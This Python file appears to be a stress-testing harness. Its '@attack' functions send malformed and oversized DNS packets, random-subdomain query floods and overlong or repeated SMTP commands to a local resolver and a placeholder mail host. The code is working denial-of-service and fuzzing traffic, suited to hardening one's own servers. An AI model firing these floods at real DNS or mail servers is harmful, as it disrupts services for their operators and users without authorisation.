# Names (RFC 1035) and mail (RFC 5321).
import os
import socket

from wire import *

RESOLVER = "192.168.1.1"


def query(name, kind=1):
    labels = b"".join(bytes([len(part)]) + part for part in name.split(b"."))
    return os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + kind.to_bytes(2, "big") + b"\0\1"


@attack
def malformed_names():
    good = query(b"good.attack.example")
    shapes = [
        b"", b"\0", good[:11], good[:12], good[:-1], good[:12] + b"\xc0\x0c\0\1\0\1",
        good[:12] + b"\xc0\x0e\xc0\x0c\0\1\0\1", good[:12] + b"\x3f" + bytes(10),
        good[:12] + b"\x01a" * 200 + b"\0\0\1\0\1", good[:12] + (b"\x3f" + b"a" * 63) * 30 + b"\0\0\1\0\1",
        good[:4] + b"\xff\xff" + good[6:], good[:2] + b"\xff\xff" + good[4:], good + bytes(60000),
        good[:12] + b"\x05\0\x01\x02\xff\xfe\0\0\1\0\1", query(b"x" * 63 + b"." + b"y" * 63, 255),
    ]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for shape in shapes * 50:
            sock.sendto(shape, (RESOLVER, 53))
    for shape in shapes:
        with stream(RESOLVER, 53) as sock:
            push(sock, len(shape).to_bytes(2, "big")[-2:] + shape if len(shape) < 65536 else shape)


@attack
def long_questions():
    with stream(RESOLVER, 53) as sock:
        for _ in range(200):
            if not push(sock, b"\xff\xff" + query(b"long.attack.example").ljust(65535, b"\0")):
                break
        hear(sock)


@attack
def random_names():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for number in range(6000):
            sock.sendto(query(b"%x.n%d.attack.example" % (number * 2654435761, number % 50)), (RESOLVER, 53))


@attack
def mail_line():
    with stream("mail.attack.example", 25) as sock:
        push(sock, b"EHLO ")
        push(sock, b"a" * 65536, 512)
        hear(sock)


@attack
def mail_commands():
    with stream("mail.attack.example", 25) as sock:
        push(sock, b"NOOP\r\n" * 10000, 100)
        hear(sock)


@attack
def mail_data():
    with stream("mail.attack.example", 25) as sock:
        push(sock, b"EHLO a\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>\r\nDATA\r\n")
        push(sock, (b"a" * 998 + b"\r\n") * 64, 500)
        hear(sock)
